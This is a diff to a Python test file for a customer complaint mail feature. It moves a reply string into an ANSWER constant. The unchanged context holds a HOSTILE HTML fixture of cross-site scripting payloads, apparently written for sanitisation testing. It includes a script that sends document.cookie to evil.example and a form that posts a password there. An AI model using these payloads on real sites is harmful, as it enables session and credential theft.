@@ -12,6 +12,7 @@ HOSTILE = """<html><body onload="steal()"><h1>It leaks</h1>
 <script>document.location = "https://evil.example/" + document.cookie</script>
 <a href="javascript:steal()">Look</a><img src="x" onerror="steal()"/><iframe src="https://evil.example"></iframe>
 <style>body { display: none }</style><form action="https://evil.example"><input name="password"/></form></body></html>"""
+ANSWER = "We are sorry"
 
 
 @tagged("post_install", "-at_install")
@@ -202,7 +203,7 @@ class TestComplaintMail(ServiceCommon):
     def test_agent_answers_and_the_customer_gets_it(self):
         complaint = self.receive()
         message = complaint.with_user(self.agent).message_post(
-            body="We are sorry", partner_ids=self.contact.ids, message_type="comment", subtype_xmlid="mail.mt_comment"
+            body=ANSWER, partner_ids=self.contact.ids, message_type="comment", subtype_xmlid="mail.mt_comment"
         )
         mail = self.env["mail.mail"].sudo().search([("mail_message_id", "=", message.id)])
         self.assertEqual(mail.recipient_ids, self.contact)
